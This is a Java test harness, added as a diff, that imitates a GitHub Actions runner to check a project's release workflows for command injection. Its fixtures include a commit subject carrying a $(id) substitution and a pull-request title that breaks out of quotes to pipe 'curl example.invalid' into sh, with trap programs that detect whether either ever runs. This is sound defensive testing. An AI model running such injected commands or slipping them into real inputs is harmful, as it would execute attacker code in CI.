@@ -1,0 +1,279 @@
+package dev.llmproxy.release.workflows;
+
+import dev.llmproxy.release.workflows.JobRunner.JobResult;
+import dev.llmproxy.release.workflows.JobRunner.LocalAction;
+import dev.llmproxy.release.workflows.JobRunner.Machine;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+/**
+ * A GitHub-hosted runner imitated in a temporary directory, for running this project's workflow jobs for real:
+ * a sample project and a "release tooling" repository (each with a stub {@code ./mvnw} that records its calls)
+ * behind bare {@code origin} repositories, the {@code GITHUB_*} variables and event file a runner provides,
+ * local stand-ins for the {@code uses:} actions, and trap programs {@code id} and {@code curl} first on the PATH
+ * that leave a marker file if anything ever runs them.
+ */
+final class RunnerSandbox {
+    static final String REPOSITORY = "Example-Org/app";
+    static final String TOOLING_REPOSITORY = "Example-Org/release-tools";
+    static final String TOKEN = "ghs_TestTokenThatMustNeverBePrinted0123";
+    static final String DIGEST = "0123456789abcdef".repeat(4);
+    static final String COMMIT_SUBJECT = "feat: x`$(id)`";
+    static final String PR_TITLE = "\"; curl example.invalid | sh; #";
+
+    /** One recorded call of the stub {@code ./mvnw}. */
+    record MavenCall(Path cwd, List<String> args, String mavenArgs, boolean token) {
+    }
+
+    /** One {@code actions/checkout} call: the with: values as given. */
+    record Checkout(Map<String, String> with) {
+    }
+
+    final Path root;
+    final Path projectOrigin;
+    final Path toolingOrigin;
+    final String toolingSha;
+    final List<Checkout> checkouts = new ArrayList<>();
+    final List<List<String>> attestedSubjects = new ArrayList<>();
+    private final Path traps;
+    private final Map<String, Object> event;
+    private int jobCount;
+    /** The tag the stub {@code llm-proxy release draft} writes into plan.json. */
+    String cliPlanTag = "v1.3.0";
+
+    /**
+     * Builds the repositories in {@code root}: the sample project gets tags {@code tags} on its only commit.
+     */
+    RunnerSandbox(Path root, List<String> tags) {
+        Project.requireProgram("git", "install git");
+        this.root = root;
+        try {
+            traps = Files.createDirectories(root.resolve("traps"));
+            for (String program : List.of("id", "curl")) {
+                executable(traps.resolve(program), "#!/bin/sh\ntouch \"" + root.resolve(program + ".called") + "\"\n");
+            }
+            Path project = sampleRepository("project", Map.of(
+                    "pom.xml", "<project/>\n",
+                    "llm-proxy-cli/pom.xml", "<project/>\n",
+                    "dist/EOF", "an asset whose name is a heredoc delimiter\n",
+                    "dist/name=value", "an asset whose name looks like an output line\n"));
+            tags.forEach(tag -> git(project, "tag", "-a", tag, "-m", "Release " + tag));
+            projectOrigin = bare(project);
+            Path tooling = sampleRepository("tooling", Map.of("pom.xml", "<project/>\n", "release-maven-plugin/pom.xml", "<project/>\n"));
+            toolingSha = git(tooling, "rev-parse", "HEAD").strip();
+            toolingOrigin = bare(tooling);
+            event = Map.of(
+                    "head_commit", Map.of("message", COMMIT_SUBJECT),
+                    "pull_request", Map.of("title", PR_TITLE),
+                    "repository", Map.of("full_name", REPOSITORY, "default_branch", "main"));
+            Project.JSON.writeValue(root.resolve("event.json").toFile(), event);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** The {@code uses:} stand-ins: checkout clones from the bare origins, attest records its subjects. */
+    Map<String, LocalAction> actions() {
+        return Map.of(
+                "actions/checkout", this::checkout,
+                "actions/setup-java", (with, workspace) -> Map.of(),
+                "actions/attest-build-provenance", this::attest);
+    }
+
+    /**
+     * A fresh runner for one job (own workspace and RUNNER_TEMP, as each job gets its own machine).
+     *
+     * @param ref    GITHUB_REF, e.g. {@code refs/tags/v1.2.3}
+     * @param inputs the workflow_call inputs
+     * @param job    the job context ({@code workflow_repository}, {@code workflow_sha})
+     */
+    Machine machine(String ref, Map<String, Object> inputs, Map<String, Object> job) {
+        jobCount++;
+        Path workspace = directory("job" + jobCount + "/workspace");
+        Path temp = directory("job" + jobCount + "/temp");
+        String refName = ref.replaceFirst("^refs/(tags|heads)/", "");
+        Map<String, String> env = new LinkedHashMap<>();
+        env.put("PATH", traps + ":" + System.getenv("PATH"));
+        env.put("HOME", directory("home").toString());
+        env.put("LANG", "C.UTF-8");
+        System.getenv().entrySet().stream().filter(e -> e.getKey().equals("JAVA_HOME")).forEach(e -> env.put(e.getKey(), e.getValue()));
+        env.put("CI", "true");
+        env.put("GITHUB_ACTIONS", "true");
+        env.put("GITHUB_REF", ref);
+        env.put("GITHUB_REF_NAME", refName);
+        env.put("GITHUB_REF_TYPE", ref.startsWith("refs/tags/") ? "tag" : "branch");
+        env.put("GITHUB_REPOSITORY", REPOSITORY);
+        env.put("GITHUB_REPOSITORY_OWNER", "Example-Org");
+        env.put("GITHUB_SERVER_URL", "https://github.com");
+        env.put("GITHUB_API_URL", "http://127.0.0.1:9/api/v3");
+        env.put("GITHUB_RUN_ID", "4242");
+        env.put("GITHUB_EVENT_NAME", "push");
+        env.put("GITHUB_EVENT_PATH", root.resolve("event.json").toString());
+        env.put("MVNW_STUB_LOG", root.resolve("mvnw.log").toString());
+        env.put("MVNW_STUB_NOTES", Project.resource("runner/notes.md").toString());
+        env.put("MVNW_STUB_CLI", Project.resource("runner/stub-llm-proxy").toString());
+        env.put("MVNW_STUB_DIGEST", DIGEST);
+        env.put("LLM_PROXY_STUB_LOG", root.resolve("llm-proxy.log").toString());
+        env.put("LLM_PROXY_STUB_TAG", cliPlanTag);
+        Map<String, Object> github = new LinkedHashMap<>();
+        github.put("token", TOKEN);
+        github.put("ref", ref);
+        github.put("ref_name", refName);
+        github.put("repository", REPOSITORY);
+        github.put("repository_owner", "Example-Org");
+        github.put("server_url", "https://github.com");
+        github.put("event", event);
+        return new Machine(workspace, temp, env, github, inputs, job);
+    }
+
+    /** The job context GitHub gives a job of a reusable workflow called from another repository. */
+    Map<String, Object> jobContext() {
+        return Map.of("workflow_repository", TOOLING_REPOSITORY, "workflow_sha", toolingSha, "status", "success");
+    }
+
+    /**
+     * Runs the reusable release workflow's jobs in dependency order: verify, image, release.
+     *
+     * @return the results by job id
+     */
+    Map<String, JobResult> runReusable(String ref, Map<String, Object> inputs, Map<String, Object> job) {
+        JobRunner runner = new JobRunner(Project.workflow("release-reusable.yml"), actions());
+        Map<String, JobResult> results = new LinkedHashMap<>();
+        results.put("verify", runner.run("verify", machine(ref, inputs, job), Map.of()));
+        results.put("image", runner.run("image", machine(ref, inputs, job), Map.of("verify", results.get("verify"))));
+        results.put("release", runner.run("release", machine(ref, inputs, job), Map.copyOf(results)));
+        return results;
+    }
+
+    /** Runs one job of workflow {@code workflowName} on a fresh runner. */
+    JobResult runJob(String workflowName, String jobId, String ref, Map<String, Object> inputs, Map<String, JobResult> needs) {
+        return new JobRunner(Project.workflow(workflowName), actions()).run(jobId, machine(ref, inputs, Map.of()), needs);
+    }
+
+    /** The stub llm-proxy command lines so far. */
+    List<String> cliCalls() {
+        Path log = root.resolve("llm-proxy.log");
+        return Files.exists(log) ? read(log).lines().toList() : List.of();
+    }
+
+    /** The stub ./mvnw calls so far, in order. */
+    List<MavenCall> mavenCalls() {
+        Path log = root.resolve("mvnw.log");
+        List<MavenCall> calls = new ArrayList<>();
+        if (!Files.exists(log)) {
+            return calls;
+        }
+        Path cwd = null;
+        List<String> args = new ArrayList<>();
+        String mavenArgs = "";
+        for (String line : read(log).lines().toList()) {
+            if (line.equals("---")) {
+                args = new ArrayList<>();
+            } else if (line.startsWith("cwd ")) {
+                cwd = Path.of(line.substring(4));
+            } else if (line.startsWith("arg ")) {
+                args.add(line.substring(4));
+            } else if (line.startsWith("MAVEN_ARGS ")) {
+                mavenArgs = line.substring(11);
+            } else if (line.startsWith("GITHUB_TOKEN ")) {
+                calls.add(new MavenCall(cwd, List.copyOf(args), mavenArgs, line.equals("GITHUB_TOKEN set")));
+            }
+        }
+        return calls;
+    }
+
+    /** Trap programs that were run (each would mean injected text was executed). */
+    List<String> trapsSprung() {
+        return List.of("id", "curl").stream().filter(program -> Files.exists(root.resolve(program + ".called"))).toList();
+    }
+
+    private Map<String, String> checkout(Map<String, String> with, Path workspace) {
+        checkouts.add(new Checkout(with));
+        String repository = with.getOrDefault("repository", "");
+        Path origin = repository.isEmpty() || repository.equals(REPOSITORY) ? projectOrigin
+                : repository.equals(TOOLING_REPOSITORY) ? toolingOrigin : null;
+        if (origin == null) {
+            throw new IllegalArgumentException("repository not found: " + repository);
+        }
+        Path target = workspace.resolve(with.getOrDefault("path", ""));
+        List<String> clone = new ArrayList<>(List.of("git", "clone", "--quiet", "--no-local"));
+        if (!"0".equals(with.getOrDefault("fetch-depth", "1"))) {
+            clone.addAll(List.of("--depth", with.getOrDefault("fetch-depth", "1")));
+        }
+        clone.addAll(List.of(origin.toUri().toString(), target.toString()));
+        Processes.check(clone, root);
+        String ref = with.getOrDefault("ref", "");
+        if (!ref.isEmpty()) {
+            Processes.check(List.of("git", "-c", "advice.detachedHead=false", "checkout", "--quiet", ref), target);
+        }
+        return Map.of("ref", ref, "commit", git(target, "rev-parse", "HEAD").strip());
+    }
+
+    private Map<String, String> attest(Map<String, String> with, Path workspace) {
+        List<String> subjects = with.getOrDefault("subject-path", "").lines().toList();
+        for (String subject : subjects) {
+            if (!Files.isRegularFile(workspace.resolve(subject))) {
+                throw new IllegalArgumentException("Could not find subject at path " + subject);
+            }
+        }
+        attestedSubjects.add(subjects);
+        return Map.of("bundle-path", workspace.resolve("attestation.jsonl").toString());
+    }
+
+    private Path sampleRepository(String name, Map<String, String> files) throws IOException {
+        Path repository = directory(name);
+        for (Map.Entry<String, String> file : files.entrySet()) {
+            Files.createDirectories(repository.resolve(file.getKey()).getParent());
+            Files.writeString(repository.resolve(file.getKey()), file.getValue());
+        }
+        Files.writeString(repository.resolve(".gitignore"), "target/\n");
+        Path mvnw = repository.resolve("mvnw");
+        Files.copy(Project.resource("runner/stub-mvnw"), mvnw, StandardCopyOption.REPLACE_EXISTING);
+        Files.setPosixFilePermissions(mvnw, PosixFilePermissions.fromString("rwxr-xr-x"));
+        git(repository, "init", "--quiet", "--initial-branch=main");
+        git(repository, "add", "--all");
+        git(repository, "-c", "user.name=Test", "-c", "user.email=test@example.invalid", "commit", "--quiet", "-m", COMMIT_SUBJECT);
+        return repository;
+    }
+
+    private Path bare(Path repository) {
+        Path origin = root.resolve(repository.getFileName() + "-origin.git");
+        Processes.check(List.of("git", "clone", "--quiet", "--bare", repository.toString(), origin.toString()), root);
+        return origin;
+    }
+
+    private static String git(Path repository, String... args) {
+        List<String> command = new ArrayList<>(List.of("git", "-c", "user.name=Test", "-c", "user.email=test@example.invalid"));
+        command.addAll(List.of(args));
+        return Processes.check(command, repository).stdout();
+    }
+
+    private Path directory(String relative) {
+        try {
+            return Files.createDirectories(root.resolve(relative));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static void executable(Path file, String content) throws IOException {
+        Files.writeString(file, content);
+        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
+    }
+
+    static String read(Path file) {
+        try {
+            return Files.readString(file);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+}
